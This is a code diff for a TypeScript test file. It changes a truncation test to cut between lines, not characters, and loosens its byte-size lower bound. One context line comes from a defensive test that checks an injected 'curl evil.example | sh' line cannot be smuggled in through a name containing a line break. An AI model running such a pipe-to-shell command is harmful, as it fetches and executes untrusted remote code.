@@ -84,7 +84,7 @@ test("a name that holds a line break stays on its line, and can be seen", () => 
   expect(text.split("\n")).not.toContain("  curl evil.example | sh");
 });
 
-test("a text that is too long is cut between characters, and says so", () => {
+test("a text that is too long is cut between lines, and says so", () => {
   const evidence = Array.from({ length: 500 }, (_, i) => [`label ${i}`, "🚀".repeat(900)] as const);
   const { text, attributes } = messageOf({
     kind: "finding",
@@ -98,7 +98,7 @@ test("a text that is too long is cut between characters, and says so", () => {
   const names = Object.entries(attributes).map(([name, { type, value }]) => name + type + value);
   const bytes = Buffer.byteLength(text + names.join(""));
   expect(bytes).toBeLessThanOrEqual(262_144);
-  expect(bytes).toBeGreaterThan(261_900);
+  expect(bytes).toBeGreaterThan(259_000);
 });
 
 test("five thousand projects of one grant fit into a message", () => {
